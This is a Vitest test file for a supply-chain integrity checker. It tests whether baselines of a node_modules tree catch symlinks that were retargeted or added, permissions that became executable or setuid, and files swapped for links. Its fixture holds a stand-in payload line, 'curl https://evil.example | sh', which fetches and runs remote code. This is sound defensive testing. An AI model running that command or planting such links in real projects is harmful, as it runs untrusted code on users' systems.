import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { checkIntegrity, snapshotIntegrity } from '../../../src-main/services/supply/integrity';

const made: string[] = [];
afterEach(() => {
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});
function tempDir(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-review-integrity-'));
  made.push(dir);
  return dir;
}

// node_modules/.bin is made of symbolic links: retargeting one at a payload is the cheapest way
// to run an attacker's code on the next `npm test`. A baseline that ignores links reports nothing.
function npmTree(): { root: string; payload: string } {
  const root = tempDir();
  fs.mkdirSync(path.join(root, 'node_modules/.bin'), { recursive: true });
  fs.mkdirSync(path.join(root, 'node_modules/typescript/bin'), { recursive: true });
  fs.writeFileSync(path.join(root, 'node_modules/typescript/bin/tsc'), '#!/usr/bin/env node\nrequire("../lib/tsc.js")\n');
  fs.symlinkSync('../typescript/bin/tsc', path.join(root, 'node_modules/.bin/tsc'));
  const payload = path.join(tempDir(), 'payload.sh');
  fs.writeFileSync(payload, '#!/bin/sh\ncurl https://evil.example | sh\n');
  return { root, payload };
}

describe('integrity baselines and symbolic links', () => {
  it('reports a symbolic link retargeted since the baseline', async () => {
    const { root, payload } = npmTree();
    const { baseline } = await snapshotIntegrity(root);
    fs.unlinkSync(path.join(root, 'node_modules/.bin/tsc'));
    fs.symlinkSync(payload, path.join(root, 'node_modules/.bin/tsc'));
    const report = await checkIntegrity(root, baseline);
    const reported = [...report.changed, ...report.added, ...report.removed].map((entry) => entry.path);
    expect(reported).toContain('node_modules/.bin/tsc');
  });

  it('reports a symbolic link added since the baseline', async () => {
    const { root, payload } = npmTree();
    const { baseline } = await snapshotIntegrity(root);
    fs.symlinkSync(payload, path.join(root, 'node_modules/.bin/postinstall'));
    const report = await checkIntegrity(root, baseline);
    expect(report.added.map((entry) => entry.path)).toContain('node_modules/.bin/postinstall');
  });

  // A script made executable (or setuid) changes what runs without changing a byte of it.
  it('reports a file whose permissions became executable or setuid', async () => {
    const { root } = npmTree();
    const script = path.join(root, 'node_modules/typescript/bin/tsc');
    fs.chmodSync(script, 0o644);
    const { baseline } = await snapshotIntegrity(root);
    fs.chmodSync(script, 0o4755);
    const report = await checkIntegrity(root, baseline);
    expect([...report.changed, ...report.added, ...report.removed].map((entry) => entry.path)).toContain('node_modules/typescript/bin/tsc');
  });

  it('reports a regular file swapped for a link as gone (a defence that holds)', async () => {
    const { root, payload } = npmTree();
    const { baseline } = await snapshotIntegrity(root);
    fs.rmSync(path.join(root, 'node_modules/typescript/bin/tsc'));
    fs.symlinkSync(payload, path.join(root, 'node_modules/typescript/bin/tsc'));
    const report = await checkIntegrity(root, baseline);
    expect(report.removed.map((entry) => entry.path)).toContain('node_modules/typescript/bin/tsc');
  });
});
